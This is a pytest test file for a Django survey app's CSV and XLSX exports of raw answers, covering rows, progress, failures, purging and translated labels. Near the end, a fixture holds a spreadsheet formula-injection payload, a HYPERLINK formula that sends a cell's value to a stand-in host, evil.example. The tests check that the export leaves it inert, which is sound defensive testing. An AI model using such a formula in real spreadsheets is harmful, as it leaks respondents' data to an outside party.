"""Exports of the raw answers: a queued job, a worker that writes CSV or XLSX, progress."""

import csv
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from openpyxl import load_workbook

from brukarkraft.roles import Role
from brukarkraft.tests.factories import UserFactory
from surveys import exports, services
from surveys.exports import DONT_KNOW as DONT_KNOW_VALUE
from surveys.models import ExportJob, Kind, Response

from .factories import (
    DONT_KNOW,
    UnitFactory,
    add_question,
    answer_and_submit,
    enter_paper,
    make_survey,
)

pytestmark = pytest.mark.django_db

FIXED_COLUMNS = [
    "response",
    "sent",
    "unit",
    "channel",
    "answered",
    "support person",
    "easy-to-read mode",
]


@pytest.fixture(autouse=True)
def _media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def requester(db):
    # Sara asks for exports in English so the headings can be read here.
    return UserFactory(roles=[Role.STAFF], preferred_language="en")


@pytest.fixture
def survey():
    survey = make_survey([Kind.SINGLE, Kind.MULTIPLE, Kind.YES_NO, Kind.NUMBER, Kind.TEXT])
    # A practice question is never exported.
    add_question(survey.sections.get(), Kind.YES_NO, is_practice=True, text_sv="Övning")
    return services.survey_publish(survey=survey, by=None)


@pytest.fixture
def answered(survey):
    """Two web responses, one on paper, and one still being answered."""
    single, multiple, yes_no, number, text = survey.questions.counted().in_order()
    practice = survey.questions.get(is_practice=True)
    unit = UnitFactory(survey=survey, name="Verkstaden")
    web = answer_and_submit(
        survey,
        {
            practice: practice.options.first(),
            single: single.options.first(),
            multiple: list(multiple.options.all()),
            yes_no: DONT_KNOW,
            number: 7,
            text: "Bra; mycket bra",
        },
        unit=unit,
        support=Response.Support.HELPED,
        support_role=Response.SupportRole.FAMILY,
        easy_read=True,
    )
    skipped = answer_and_submit(survey, {single: single.options.last()})
    paper = enter_paper(survey, {yes_no: yes_no.options.get(value="no")})
    answer_and_submit(survey, {single: single.options.first()}, submit=False)
    return web, skipped, paper


def request_and_run(
    survey, requester, format, capture, values=ExportJob.Values.CODES, **kwargs
) -> ExportJob:
    """Codes unless asked otherwise: the tests below read the stable codes."""
    with capture(execute=True):
        job = services.export_request(
            survey=survey, format=format, by=requester, values=values, **kwargs
        )
    job.refresh_from_db()
    return job


def read_csv(job: ExportJob) -> list[list[str]]:
    with open(job.file.path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle, delimiter=";"))


def test_a_csv_export_has_one_row_per_sent_response(
    survey, answered, requester, django_capture_on_commit_callbacks
):
    web, skipped, paper = answered
    single, multiple, *_ = survey.questions.counted().in_order()

    job = request_and_run(
        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks
    )

    assert job.status == ExportJob.Status.READY
    assert job.rows_total == 3
    assert job.rows_done == job.rows_total
    assert job.percent == 100
    assert job.finished_at is not None
    assert job.error == ""
    assert Path(job.file.path).is_file()
    assert job.file.name.endswith(".csv")
    header, *rows = read_csv(job)
    assert header[:7] == FIXED_COLUMNS
    assert header[7:] == [
        f"Q{n} {q.text_sv[:60]}"
        for n, q in enumerate(survey.questions.counted().in_order(), start=1)
    ]
    assert [int(row[0]) for row in rows] == [web.pk, skipped.pk, paper.pk]
    assert all(len(row) == len(header) for row in rows)

    first = rows[0]
    assert first[2:7] == ["Verkstaden", "web", "helped", "family", "1"]
    assert first[7] == single.options.first().value
    assert sorted(first[8].split(";")) == sorted(o.value for o in multiple.options.all())
    assert first[9] == DONT_KNOW_VALUE == "dont_know"
    assert first[10:] == ["7", "Bra; mycket bra"]
    assert rows[1][7:] == [single.options.last().value, "", "", "", ""]
    assert rows[2][3] == "paper"
    assert rows[2][9] == "no"


def test_an_xlsx_export_has_the_same_rows(
    survey, answered, requester, django_capture_on_commit_callbacks
):
    csv_job = request_and_run(
        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks
    )
    job = request_and_run(
        survey, requester, ExportJob.Format.XLSX, django_capture_on_commit_callbacks
    )

    assert job.status == ExportJob.Status.READY
    assert job.rows_done == job.rows_total == 3
    assert job.file.name.endswith(".xlsx")
    book = load_workbook(job.file.path, read_only=True)
    sheet = book.worksheets[0]
    sheet_rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    book.close()
    csv_rows = read_csv(csv_job)
    assert len(sheet_rows) == len(csv_rows) == 4
    assert list(sheet_rows[0]) == csv_rows[0]
    assert [row[0] for row in sheet_rows[1:]] == [int(row[0]) for row in csv_rows[1:]]
    assert sheet_rows[1][9] == "dont_know"


def test_progress_is_reported_batch_by_batch(
    survey, requester, monkeypatch, django_capture_on_commit_callbacks
):
    single = survey.questions.counted().in_order().first()
    for _ in range(5):
        answer_and_submit(survey, {single: single.options.first()})
    monkeypatch.setattr(exports, "BATCH", 2)
    reported = []
    real_rows = exports.rows

    def rows_spying_on_progress(survey, progress=None, **kwargs):
        def spy(done):
            reported.append(done)
            progress(done)

        return real_rows(survey, spy, **kwargs)

    monkeypatch.setattr(exports, "rows", rows_spying_on_progress)

    job = request_and_run(
        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks
    )

    assert reported == [2, 4, 5]
    assert job.rows_done == job.rows_total == 5
    assert len(read_csv(job)) == 6


def test_an_export_of_a_survey_without_answers_has_only_the_header(
    survey, requester, django_capture_on_commit_callbacks
):
    job = request_and_run(
        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks
    )

    assert job.status == ExportJob.Status.READY
    assert job.rows_done == job.rows_total == 0
    assert len(read_csv(job)) == 1


def test_a_failing_writer_leaves_the_job_failed(
    survey, answered, requester, monkeypatch, django_capture_on_commit_callbacks
):
    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(exports, "write", broken)

    with pytest.raises(RuntimeError):
        request_and_run(survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks)

    job = ExportJob.objects.get()
    assert job.status == ExportJob.Status.FAILED
    assert job.error == "RuntimeError"
    assert job.finished_at is not None
    assert not job.file


def test_a_finished_job_is_not_written_again(
    survey, answered, requester, django_capture_on_commit_callbacks
):
    job = request_and_run(
        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks
    )
    name = job.file.name

    services.export_run(job_id=job.pk)

    job.refresh_from_db()
    assert job.file.name == name
    assert ExportJob.objects.count() == 1


def test_no_export_after_the_raw_answers_were_deleted(survey, answered, requester):
    services.survey_purge_raw_answers(survey=survey)
    survey.refresh_from_db()

    with pytest.raises(ValidationError) as raised:
        services.export_request(survey=survey, format=ExportJob.Format.CSV, by=requester)

    assert raised.value.code == "deleted"
    assert not ExportJob.objects.exists()


def test_purging_deletes_earlier_export_files(
    survey, answered, requester, django_capture_on_commit_callbacks
):
    job = request_and_run(
        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks
    )
    path = Path(job.file.path)

    services.survey_purge_raw_answers(survey=survey)

    assert not path.exists()
    assert not ExportJob.objects.exists()


# --- Labels in the survey's language, and nothing that runs -------------------------------


def test_by_default_the_answers_go_out_as_the_respondents_saw_them(
    survey, answered, requester, django_capture_on_commit_callbacks
):
    web, skipped, paper = answered
    single, multiple, yes_no, *_ = survey.questions.counted().in_order()

    with django_capture_on_commit_callbacks(execute=True):
        job = services.export_request(
            survey=survey, format=ExportJob.Format.CSV, by=requester, language="sv"
        )
    job.refresh_from_db()

    assert job.values == ExportJob.Values.LABELS
    header, first, second, third = read_csv(job)
    assert header[:3] == ["enkätsvar", "skickat", "enhet"]
    assert header[7] == f"Q1 {single.text_sv[:60]}"
    assert first[3:7] == ["Webb", "Svarade med stödperson", "Någon i familjen eller en vän", "Ja"]
    assert first[7] == single.options.first().label_sv
    assert first[9] == "Vet inte"
    assert int(first[0]) == web.pk
    assert third[3] == "Papper"
    assert third[9] == yes_no.options.get(value="no").label_sv == "Nej"
    assert "dont_know" not in {cell for row in (first, second, third) for cell in row}


def test_the_labels_follow_the_chosen_language(
    survey, answered, requester, django_capture_on_commit_callbacks
):
    single = survey.questions.counted().in_order().first()

    job = request_and_run(
        survey,
        requester,
        ExportJob.Format.CSV,
        django_capture_on_commit_callbacks,
        values=ExportJob.Values.LABELS,
        language="nb",
    )

    header, first, *_ = read_csv(job)
    assert header[7] == f"Q1 {single.text_nb[:60]}"
    assert first[7] == single.options.first().label_nb
    assert first[9] == "Vet ikke"


FORMULA = "=1+1"
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'


@pytest.fixture
def formulas(survey):
    """Two anonymous respondents write formulas; the number question gets a number."""
    *_, number, text = survey.questions.counted().in_order()
    answer_and_submit(survey, {text: FORMULA, number: 7})
    answer_and_submit(survey, {text: HYPERLINK, number: -3})
    return number, text


@pytest.mark.parametrize("values", ExportJob.Values.values)
def test_a_formula_in_a_free_text_answer_is_inert_in_the_csv(
    survey, formulas, requester, django_capture_on_commit_callbacks, values
):
    job = request_and_run(
        survey, requester, ExportJob.Format.CSV, django_capture_on_commit_callbacks, values=values
    )

    _header, first, second = read_csv(job)
    assert (first[10], first[11]) == ("7", "'" + FORMULA)
    assert (second[10], second[11]) == ("-3", "'" + HYPERLINK)


@pytest.mark.parametrize("values", ExportJob.Values.values)
def test_a_formula_in_a_free_text_answer_is_a_text_cell_in_the_xlsx(
    survey, formulas, requester, django_capture_on_commit_callbacks, values
):
    job = request_and_run(
        survey, requester, ExportJob.Format.XLSX, django_capture_on_commit_callbacks, values=values
    )

    sheet = load_workbook(job.file.path).worksheets[0]
    first, second = (list(row) for row in sheet.iter_rows(min_row=2))
    assert (first[11].value, first[11].data_type) == (FORMULA, "s")
    assert (second[11].value, second[11].data_type) == (HYPERLINK, "s")
    # Numbers stay numbers: the response number and the number answer.
    assert (first[10].value, first[10].data_type) == (7, "n")
    assert (second[10].value, second[10].data_type) == (-3, "n")
    assert first[0].data_type == "n"
